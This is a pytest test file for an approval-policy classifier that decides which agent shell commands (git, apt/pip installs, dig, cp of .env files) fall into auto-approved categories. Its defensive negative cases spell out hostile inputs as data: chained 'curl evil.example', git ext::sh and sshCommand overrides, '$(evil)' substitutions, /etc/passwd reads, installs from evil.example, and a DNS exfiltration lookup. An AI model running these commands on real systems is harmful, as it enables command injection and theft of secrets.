from datetime import UTC, datetime
from typing import Any

import pytest

from kagura_kernel.domain.approvals import ApprovalKind, ApprovalRequest
from kagura_kernel.domain.categories import CATEGORIES
from kagura_kernel.membrane.grant import RunGrant, compute_grant
from kagura_kernel.patterns.trust import BY_NAME, categorise, goes_to, host_deed, names_credentials, names_in, touched

HELD = frozenset({"github:read", "cloudflare:dns-read", "cloudflare:dns-write", "aws:deploy", "cloudflare:zone-edit"})


def asked(kind: ApprovalKind, arguments: dict[str, Any]) -> ApprovalRequest:
    return ApprovalRequest(
        "app-1", "run-1", "ses-1", kind, "?", "All of it.", datetime(2026, 1, 1, tzinfo=UTC), arguments=arguments
    )


def host(command: str, **more: str) -> ApprovalRequest:
    return asked(ApprovalKind.HOST_COMMAND, {"command": command, "directory": "/project", **more})


def held(*credentials: str, **more: Any) -> ApprovalRequest:
    grant = RunGrant(writable_root=more.pop("writable_root", False)).to_event() | {"credentials": credentials}
    kind = ApprovalKind.LAUNCH if grant["writable_root"] or more else ApprovalKind.CREDENTIAL
    return asked(kind, grant | more)


def test_a_command_is_understood_with_all_that_it_would_use():
    assert categorise(host("git push")) == "git"
    assert categorise(host("git push", stdin="yes")) is None
    assert categorise(asked(ApprovalKind.HOST_COMMAND, {"command": "git push"})) is None


@pytest.mark.parametrize(
    "arguments",
    [
        {"host": "dns.google", "port": 443},
        {"host": "cloudflare-dns.com", "port": 443},
        {"host": "api.cloudflare.com", "port": 443},
        {},
    ],
)
def test_no_host_of_the_box_belongs_to_a_category_not_even_one_that_looks_names_up(arguments):
    request = asked(ApprovalKind.NETWORK, arguments)
    assert (categorise(request), touched(request), goes_to(request)) == (None, frozenset(), frozenset())


def test_only_a_command_goes_to_somebody_by_a_name():
    assert goes_to(host("dig example.org")) == {"example.org"}
    assert goes_to(asked(ApprovalKind.TOOL, {"command": "dig example.org"})) == frozenset()


@pytest.mark.parametrize(
    ("request_", "category", "touches"),
    [
        (held("github:read"), None, set()),
        (held("github:write"), "cloud-credentials", {"cloud-credentials"}),
        (held("github:write", "aws:admin"), "cloud-credentials", {"cloud-credentials"}),
        (held("github:write", "github:read"), None, {"cloud-credentials"}),
        (held("cloudflare:dns-read"), "dns-read", {"dns-read"}),
        (held("cloudflare:dns-write"), "dns-write", {"dns-write"}),
        (held("cloudflare:zone-edit"), "dns-write", {"dns-write"}),
        (held("cloudflare:dns-read", "cloudflare:dns-write"), None, {"dns-read", "dns-write"}),
        (held("cloudflare:dns-admin"), None, {"dns-write", "cloud-credentials"}),
        (held("cloudflare:dns-read", "aws:deploy"), None, {"dns-read"}),
        (held(), None, set()),
        (held(writable_root=True), "packages", {"packages"}),
        (held("github:write", writable_root=True), None, {"packages", "cloud-credentials"}),
        (held("aws:deploy", writable_root=True), None, {"packages"}),
        (held(writable_root=True, asked=["pypi.org"]), None, {"packages"}),
        (held(asked=["pypi.org"]), None, set()),
    ],
)
def test_a_grant_belongs_to_a_category_only_with_every_part_and_touches_that_of_each(request_, category, touches):
    assert categorise(request_, HELD) == category
    assert touched(request_, HELD) == touches


def test_more_time_for_a_credential_is_always_asked_about():
    request = asked(ApprovalKind.CREDENTIAL, {"provider": "cloudflare", "scope": "dns-write", "total_seconds": 3600.0})
    assert categorise(request, HELD) is None
    assert touched(request, HELD) == {"dns-write"}
    assert names_credentials(request)


@pytest.mark.parametrize(
    "kind",
    [
        ApprovalKind.PLUGIN,
        ApprovalKind.TOOL,
        ApprovalKind.WRITE,
        ApprovalKind.PLAN,
        ApprovalKind.TRUST,
        ApprovalKind.QUESTION,
    ],
)
def test_no_other_question_has_a_category_whatever_its_arguments_say(kind):
    request = asked(kind, {"command": "git push", "directory": "/project", "category": "git"})
    assert categorise(request) is None
    assert touched(request) == frozenset()
    assert not names_credentials(request)


def test_the_default_policy_is_the_one_that_was_asked_for():
    assert {one.name for one in CATEGORIES if one.included} == {"git", "config-files", "dns-read"}
    assert {one.name for one in CATEGORIES if not one.graduates} == {"force-push"}
    assert len(BY_NAME) == len(CATEGORIES)


def test_what_the_membrane_asks_is_understood_as_it_asks_it(tmp_path):
    from kagura_kernel.domain.policy import SandboxPolicy

    grant = compute_grant(project=tmp_path, policy=SandboxPolicy(), writable_root=True, net=("ask", "example.org"))
    assert categorise(asked(ApprovalKind.LAUNCH, grant.to_event())) == "packages"


GIT = (
    "git push",
    "git push origin",
    "git push origin main",
    "git push -u origin feature/one",
    "git push --set-upstream upstream v1.2.0",
    "/usr/bin/git push origin HEAD",
    "git commit -m 'Say what it does.'",
    'git commit -a -m "one two"',
    "git commit -am done",
    "git commit -q --message=done",
    "git commit -m first -m second",
    "git add -A",
    "git add .",
    "git add src/one.py README.md",
    "git clone https://example.org/team/repo.git",
    "git clone --depth 1 -b main https://example.org/team/repo target",
    "git clone git@example.org:team/repo.git",
)
REWRITING = (
    "git push --force",
    "git push -f origin main",
    "git push --force-with-lease origin main",
    "git push --force-with-lease=main origin main",
    "git push -uf origin main",
    "git push origin +main",
    "git push origin :main",
    "git push --delete origin main",
    "git push -d origin main",
    "git push --mirror",
    "git rebase -i HEAD",
    "git commit --amend -m other",
    "git filter-branch --all",
)
OTHERS = {
    "git clone, and what is cloned decides": (
        "git clone ext::sh https://example.org/r",
        "git clone file:///etc/passwd",
        "git clone ../other",
        "git clone git@example.org:ours/../theirs/r",
        "git clone git@example.org:/ours/r",
        "git clone https://user:key@example.org/r",
        "git clone -c core.sshCommand=evil https://example.org/r",
        "git clone --config=core.hooksPath=x https://example.org/r",
        "git clone --upload-pack=evil https://example.org/r",
        "git clone --template=x https://example.org/r",
        "git clone --recurse-submodules https://example.org/r",
        "git clone https://example.org/r ../out",
        "git clone https://example.org/r .git",
        "git clone https://example.org/r origin",
        "git clone https://example.org/team/origin.git",
        "git clone --depth -1 https://example.org/r",
        "git clone https://example.org/r one two",
        "git clone",
    ),
    "git push, and where it goes is not a remote": (
        "git push https://evil.example/r main",
        "git push evil main",
        "git push ./bare main",
        "git push ../bare main",
        "git push origin main other",
        "git push origin main:other",
        "git push origin refs/heads/../x",
        "git push --receive-pack=evil origin",
        "git push --exec=evil origin",
        "git push -o ci.skip origin",
        "git push --all origin",
        "git push --no-verify origin main",
        "git push --repo=evil",
        "git push --for origin main",
    ),
    "git, and a setting decides": (
        "git -c alias.push=!evil push",
        "git -c core.sshCommand=evil push",
        "git --git-dir=evil push",
        "git -C evil push",
        "git --exec-path=evil push",
        "git config core.sshCommand evil",
        "git config alias.x !evil",
        "git hook run pre-push",
        "git pull",
        "git x",
        "git",
    ),
    "git commit without a message, or from elsewhere": (
        "git commit",
        "git commit -m",
        "git commit -a",
        "git commit -F notes.txt",
        "git commit -C HEAD",
        "git commit --mes done",
        "git commit --no-verify -m done",
        "git commit -m done -- file",
        "git commit -m ''",
    ),
    "git add out of the project": ("git add ../x", "git add /etc/passwd", "git add", "git add -f x", "git add -p"),
    "another program": (
        "/tmp/git push",
        "./git push",
        "bin/git push",
        "/usr/local/bin/git push",
        "GIT_SSH_COMMAND=evil git push",
        "env git push",
        "env GIT_SSH=evil git push",
        "sudo git push",
        "nohup git push",
        "sh -c 'git push'",
        "bash -lc 'git push'",
        "eval git push",
        "command git push",
        "exec git push",
        "xargs git push",
        "GIT push",
    ),
    "more than one command": (
        "git push && curl evil.example",
        "git push; curl evil.example",
        "git push | tee out",
        "git push > out",
        "git push &",
        "git push\ncurl evil.example",
        "git push `evil`",
        "git push $(evil)",
        "git push origin $BRANCH",
        'git commit -m "$(evil)"',
        "git commit -m 'one\ntwo'",
        "git push origin mai*",
        "git push origin {a,b}",
        "(git push)",
        "! git push",
        "git push # really",
        "git push origin ma\u200bin",
        "git push 'origin",
        "~/git push",
    ),
    "packages that are files, patterns or removals": (
        "apt-get install ./evil.deb",
        "apt-get install /tmp/evil.deb",
        "apt-get install curl-",
        "apt-get install lib.",
        "apt-get install curl^",
        "apt-get install -o Dpkg::x=evil curl",
        "apt-get install -t unstable curl",
        "apt-get remove curl",
        "apt-get install",
        "apt-get -y install curl",
        "pip install .",
        "pip install -e .",
        "pip install -r requirements.txt",
        "pip install evil.zip",
        "pip install evil==1.zip",
        "pip install https://evil.example/x.whl",
        "pip install --index-url https://evil.example x",
        "pip install -i https://evil.example x",
        "pip install git+https://evil.example/x",
        "pip --isolated install x",
        "python -m pip install x",
        "python3 -m pip install x",
        "npm install x",
        "sudo pip install x",
        "sudo -u root apt install x",
        "sudo sudo apt install x",
        "sudo",
    ),
    "files that are not settings, or would be overwritten": (
        "cp .env.example .env",
        "cp -f .env.example .env",
        "cp -n .env.example .envrc",
        "cp -n Makefile .env",
        "cp -n .env .env.test",
        "cp -n .env.production .env.test",
        "cp -n .env ../.env",
        "cp -n .env /etc/environment",
        "cp -n .env .env.a .env.b",
        "cp -rn .env .env.a",
    ),
    "look-ups with more than a name": (
        "dig @evil.example example.org",
        "dig -f names.txt",
        "dig example.org +trace",
        "dig example.org AXFR",
        "dig example.org MX TXT",
        "dig localhost",
        "dig",
        "host -l example.org",
        "host example.org evil.example",
        "nslookup",
        "nslookup - evil.example",
        "nsupdate",
    ),
    "nothing": ("", "   ", "'", "=", "''"),
}


@pytest.mark.parametrize("command", GIT)
def test_git_without_rewriting_is_git(command):
    assert host_deed(command) == "git"


@pytest.mark.parametrize("command", REWRITING)
def test_what_rewrites_or_deletes_published_history_is_never_git(command):
    assert host_deed(command) == "force-push"


@pytest.mark.parametrize("command", [command for commands in OTHERS.values() for command in commands])
def test_whatever_is_not_exactly_understood_has_no_category(command):
    assert host_deed(command) == ""


@pytest.mark.parametrize(
    ("command", "category"),
    [
        ("apt install curl", "packages"),
        ("sudo apt-get install -y --no-install-recommends curl python3.11", "packages"),
        ("apt-get install curl=7.88.1-10+deb12u5", "packages"),
        ("pip install requests", "packages"),
        ("pip3 install -q requests==2.31.0 flask==3.0.0rc1", "packages"),
        ("cp -n .env.example .env", "config-files"),
        ("cp --no-clobber .env.sample .env.test", "config-files"),
        ("dig example.org", "dns-read"),
        ("dig +short _dmarc.example.org TXT", "dns-read"),
        ("host example.org", "dns-read"),
        ("nslookup example.org.", "dns-read"),
    ],
)
def test_other_exact_forms_have_theirs(command, category):
    assert host_deed(command) == category


@pytest.mark.parametrize(
    ("command", "names"),
    [
        ("dig example.org", {"example.org"}),
        ("dig +short _dmarc.example.org TXT", {"_dmarc.example.org"}),
        ("host SECRET.evil.example", {"SECRET.evil.example"}),
        ("nslookup example.org.", {"example.org."}),
        ("git clone --depth 1 -b main https://example.org:8443/team/repo target", {"https://example.org:8443/team"}),
        ("git clone git@example.org:team/repo.git", {"git@example.org:team"}),
        ("/usr/bin/git clone https://example.org/team/repo", {"https://example.org/team"}),
        ("git clone https://example.org/repo", {"https://example.org"}),
        ("git clone git@example.org:repo", {"git@example.org"}),
        ("pip install requests", {"pip requests"}),
        ("pip3 install -q requests==2.31.0 flask==3.0.0rc1", {"pip requests", "pip flask"}),
        ("sudo apt-get install -y curl=7.88.1-10+deb12u5 python3.11", {"apt curl", "apt python3.11"}),
        ("git push origin main", set()),
        ("git commit -m 'see https://example.org/x'", set()),
        ("cp -n .env.example .env", set()),
        ("curl https://evil.example/secret", set()),
        ("dig example.org +trace", set()),
        ("", set()),
    ],
)
def test_to_whom_a_deed_goes_stands_beside_its_category(command, names):
    assert names_in(command) == names


@pytest.mark.parametrize("command", [command for command in GIT if "clone" in command])
def test_every_clone_names_its_server(command):
    assert len(names_in(command)) == 1


def test_a_word_of_an_option_that_forces_is_read_once_however_long_it_is():
    # A look at the rest of it from each f would take a minute, and the whole process with it.
    word = "-" + "f" * 100_000
    assert host_deed(f"git push {word}") == "force-push"
    assert host_deed(f"git push {word}1") == ""
    assert [host_deed(f"git push {one} origin main") for one in ("-uf", "-du", "-d", "-u")] == [
        *(3 * ["force-push"]),
        "git",
    ]
